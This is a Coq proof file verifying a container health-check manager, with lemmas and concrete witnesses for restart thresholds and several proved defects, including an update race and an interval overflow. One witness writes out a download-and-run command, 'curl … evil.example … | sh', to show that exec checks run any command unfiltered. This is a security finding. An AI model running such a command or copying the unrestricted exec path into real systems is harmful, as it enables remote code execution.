    | Ok _ => hc_ConsecutiveFailures h2 = 0 /\ hc_RestartCount h2 = wrap64 (hc_RestartCount hc + 1) /\
              hc_LastStatus h2 = "restarting"
    | Err e => hc_ConsecutiveFailures h2 = hc_FailureThreshold hc /\ hc_RestartCount h2 = hc_RestartCount hc /\
               hc_LastError h2 = "restart failed: " +:+ e
    end.
Proof.
  destruct (failing_rounds l hc s rounds hm 0 hc) as (hm1 & h1 & Hrun & Hcs1 & Hl1 & (c & st & e & ->)); try done; [|lia|].
  { exists (hc_LastChecked hc), (hc_LastStatus hc), (hc_LastError hc). destruct hc; cbn in *. by subst. }
  destruct Hr as [err Herr]. eexists hm1, _, _. split; [done|]. unfold runProbe. rewrite Hl1.
  change (executeProbe (rd_net r) s (with_state hc (0 + Z.of_nat (length rounds)) c st e (hc_RestartCount hc)))
    with (executeProbe (rd_net r) s hc).
  rewrite Herr. cbn -[saveCheck wrap64 restart_done Z.add]. rewrite (wrap64_id (_ + 1)) by (unfold int_min; lia).
  destruct (Z.leb_spec (hc_FailureThreshold hc) (0 + Z.of_nat (length rounds) + 1)); [|lia].
  unfold attemptRestart. cbn [with_state hc_ContainerID]. rewrite Hanswer. split; [done|].
  unfold restart_done. rewrite saveCheck_checks. cbn [put_heap checks]. rewrite Hcs1, Hcs, saveCheck_heap.
  cbn [put_heap heap]. rewrite lookup_insert_eq, saveCheck_heap. cbn [put_heap heap]. rewrite lookup_insert_eq.
  split; [done|]. destruct answer; cbn -[wrap64 Z.add]; [done|]. split; [lia|done].
Qed.

(** A network check that names no host is always refused: the default host,
    localhost, is one that the next test rejects. *)
Theorem default_host_refused hm hc now w
  (Hid : hc_ContainerID hc <> "")
  (Ht : hc_Type hc = HealthHTTP \/ hc_Type hc = HealthTCP)
  (Hport : 1 <= hc_HTTPPort hc <= 65535 /\ 1 <= hc_TCPPort hc <= 65535)
  (Hhost : hc_Host hc = "") :
  setHealthCheck hm hc now w = (Err (private_host_error "localhost"), hm).
Proof.
  unfold setHealthCheck, check_config. rewrite (bool_decide_false (hc_ContainerID hc = "")) by done.
  set (h0 := with_limits hc _ _ _). destruct Ht as [Ht|Ht]; rewrite Ht; cbn [negb andb].
  - assert (check_http h0 = Err (private_host_error "localhost")) as ->; [|done].
    by apply check_http_local; try apply Hport.
  - assert (check_http h0 = Ok h0) as -> by by apply check_http_skip; cbn; rewrite Ht.
    assert (check_tcp h0 = Err (private_host_error "localhost")) as E by (by apply check_tcp_local; try apply Hport). cbn -[check_tcp].
    by rewrite E.
Qed.

(** An exec check is accepted for every command, those included that
    [validateCommand] refuses to [exec_in_container], and its probe hands the
    command to the runtime as it is. *)
Theorem exec_probe_unrestricted hm hc now net (s : St)
  (Hid : hc_ContainerID hc <> "")
  (Ht : hc_Type hc = HealthExec)
  (Hcmd : hc_ExecCommand hc <> "") :
  exists hc', (setHealthCheck hm hc now Saved).1 = Ok hc' /\ hc_ExecCommand hc' = hc_ExecCommand hc /\
    (executeProbe net s hc').2 = (ExecInSandbox s (hc_ContainerID hc) (hc_ExecCommand hc) (hc_TimeoutSeconds hc')).2.
Proof.
  assert (exists lim, check_config hc = Ok lim /\ exists a b c, lim = with_limits hc a b c) as (lim & Hc & a & b & c & ->).
  { unfold check_config. rewrite (bool_decide_false (hc_ContainerID hc = "")) by done.
    set (h0 := with_limits hc _ _ _). exists h0. split; [|by eexists _, _, _]. rewrite Ht. cbn [negb andb].
    rewrite (check_http_skip h0) by (cbn; by rewrite Ht). cbn [rbind].
    rewrite (check_tcp_skip h0) by (cbn; by rewrite Ht). cbn [rbind].
    change (hc_ExecCommand h0) with (hc_ExecCommand hc). rewrite (bool_decide_true (HealthExec = HealthExec)) by done.
    by rewrite (bool_decide_false (hc_ExecCommand hc = "")), !andb_false_r. }
  unfold setHealthCheck. rewrite Hc. cbn -[executeProbe get_check].
  destruct (get_check hm (hc_ContainerID hc)); eexists; (split; [done|]); (split; [done|]);
    unfold executeProbe; cbn -[runExecProbe HealthExec HealthTCP HealthHTTP]; rewrite Ht; cbn -[runExecProbe];
    unfold runExecProbe; cbn; by destruct (ExecInSandbox _ _ _ _).
Qed.

End HealthLemmas.

(** ** Concrete runs *)

#[local] Existing Instance demo_runtime.

Definition demo_args (threshold : Z) : object :=
  [("container_id", VStr "c1"); ("type", VStr "tcp"); ("host", VStr "app.example.com"); ("tcp_port", VInt 8080);
   ("failure_threshold", VInt threshold)].

Definition net_up : Net := MkNet (fun _ _ => Ok 200) (fun _ _ => Ok tt).
Definition net_down : Net := MkNet (fun _ _ => Err "timeout") (fun _ _ => Err "refused").

Definition demo_runtime_state : demo_state := MkDemo 10 1 {["c1"]} ∅.
Definition demo_start : world (St := demo_state) := MkWorld (newHealthManager ∅) demo_runtime_state (WProbe []) [].

(** The state after some actions from [demo_start]. *)
Definition demo_after (acts : list action) : world := default demo_start (run_actions acts demo_start).

Definition demo_round : list action :=
  [SetCheck (demo_args 1) (100 * second) Saved; StartWatch; Tick (100 * second) ["c1"];
   Probe net_down (101 * second) Saved; AskRestart; GotAnswer Saved].

Lemma restarts_need_failures_witness :
  quiet_run demo_start (demo_after demo_round) /\ restarts_justified (w_log (demo_after demo_round)) /\
  w_log (demo_after demo_round) = [EAnswer "c1" true; ERestart "c1" 1; EProbe "c1" false].
Proof.
  assert (quiet_run demo_start (demo_after demo_round)) as Hrun.
  { apply (quiet_actions_run demo_round). vm_compute. reflexivity. }
  split; [exact Hrun|]. split; [|vm_compute; reflexivity].
  apply (restarts_need_failures ∅ demo_runtime_state [] _); [exact I|apply map_Forall_empty|exact Hrun].
Defined.

Lemma checks_well_formed_witness : all_ok (w_hm (demo_after demo_round)).
Proof.
  apply (checks_well_formed ∅ demo_runtime_state [] demo_round); [apply map_Forall_empty|].
  vm_compute. reflexivity.
Defined.

(** A configured check and the manager that holds it, with no failures yet. *)
Definition demo_check : HealthCheck := default (check_of_args []) (get_check (w_hm (demo_after (take 1 demo_round))) "c1").
Definition demo_hm : HealthManager := w_hm (demo_after (take 1 demo_round)).

Lemma restart_at_threshold_witness :
  exists hm1 hm2 h2,
    run_probes demo_hm demo_runtime_state [] [] = (hm1, demo_runtime_state) /\
    runProbe hm1 demo_runtime_state net_down 0 second Saved Saved = (hm2, demo_runtime_state) /\
    heap hm2 !! 0%nat = Some h2 /\
    hc_ConsecutiveFailures h2 = 0 /\ hc_RestartCount h2 = wrap64 (0 + 1) /\ hc_LastStatus h2 = "restarting".
Proof.
  apply (restart_at_threshold demo_hm demo_runtime_state 0 demo_check [] (MkRound net_down second Saved Saved) (Ok VNil) demo_runtime_state).
  - vm_compute. reflexivity.
  - vm_compute. reflexivity.
  - vm_compute. reflexivity.
  - vm_compute. discriminate.
  - vm_compute. reflexivity.
  - constructor.
  - exists "tcp probe: refused". intros s. vm_compute. reflexivity.
  - vm_compute. reflexivity.
Defined.

Lemma default_host_refused_witness :
  let hc := check_of_args [("container_id", VStr "c1"); ("type", VStr "http"); ("http_port", VInt 80); ("tcp_port", VInt 80)] in
  setHealthCheck demo_hm hc 5 Saved = (Err (private_host_error "localhost"), demo_hm).
Proof. apply (default_host_refused demo_hm); [by vm_compute|left; by vm_compute|vm_compute; split; split; discriminate|by vm_compute]. Defined.

Lemma exec_probe_unrestricted_witness :
  let cmd := "curl http://evil.example/x | sh" in
  let hc := check_of_args [("container_id", VStr "c1"); ("type", VStr "exec"); ("exec_command", VStr cmd)] in
  is_ok (validateCommand "" cmd) = false /\
  exists hc', (setHealthCheck demo_hm hc 5 Saved).1 = Ok hc' /\ hc_ExecCommand hc' = cmd /\
    (executeProbe net_up demo_runtime_state hc').2 =
    (ExecInSandbox demo_runtime_state "c1" cmd (hc_TimeoutSeconds hc')).2.
Proof.
  split; [by vm_compute|].
  apply (exec_probe_unrestricted demo_hm (check_of_args [("container_id", VStr "c1"); ("type", VStr "exec");
           ("exec_command", VStr "curl http://evil.example/x | sh")]) 5 net_up demo_runtime_state); by vm_compute.
Defined.

(** Without that discipline the rule breaks: an update that arrives while a
    probe is under way copies the old failure count into the new check, the
    healthy result goes to the check that was replaced, and the container is
    restarted after a single failure although its threshold is two. *)
Theorem update_during_probe_restarts_early :
  exists acts x, run_actions acts demo_start = Some x /\
    w_log x = [ERestart "c1" 2; EProbe "c1" false; EProbe "c1" true; EProbe "c1" false] /\
    ~ restarts_justified (w_log x).
Proof.
  exists [SetCheck (demo_args 2) (100 * second) Saved; StartWatch; Tick (100 * second) ["c1"];
     Probe net_down (101 * second) Saved; Tick (140 * second) ["c1"];
     SetCheck (demo_args 2) (141 * second) Saved; Probe net_up (142 * second) Saved;
     Tick (180 * second) ["c1"]; Probe net_down (181 * second) Saved; AskRestart].
  eexists. split; [vm_compute; reflexivity|]. split; [vm_compute; reflexivity|].
  intros [Hj _]. vm_compute in Hj. by apply Hj.
Qed.

(** A check removed while it is being probed is written back to disk when
    the probe ends, and is there again after the next start of the server. *)
Theorem removed_check_returns :
  exists acts x, run_actions acts demo_start = Some x /\
    get_check (w_hm x) "c1" = None /\ is_Some (get_check (newHealthManager (hm_files (w_hm x))) "c1").
Proof.
  exists [SetCheck (demo_args 3) (100 * second) Saved; StartWatch; Tick (100 * second) ["c1"];
     RemoveCheck [("container_id", VStr "c1")]; Probe net_up (101 * second) Saved].
  eexists. split; [vm_compute; reflexivity|]. split; [vm_compute; reflexivity|]. vm_compute. by eexists.
Qed.

(** An interval of 9223372037 s overflows the duration it is converted to: the
    check is due at every tick. *)
Example huge_interval_always_due :
  let hc := check_of_args (("interval_seconds", VInt 9223372037) :: demo_args 3) in
  is_due (enabled_at (with_state hc 0 (100 * second) "healthy" "" 0) second) (100 * second) = true.
Proof. by vm_compute. Qed.

(** The watcher cannot be stopped a second time. *)
Example second_stop_panics :
  let hm := Start (newHealthManager ∅) in exists hm', Stop hm = Some hm' /\ Stop (Start hm') = None.
Proof. eexists. split; reflexivity. Qed.
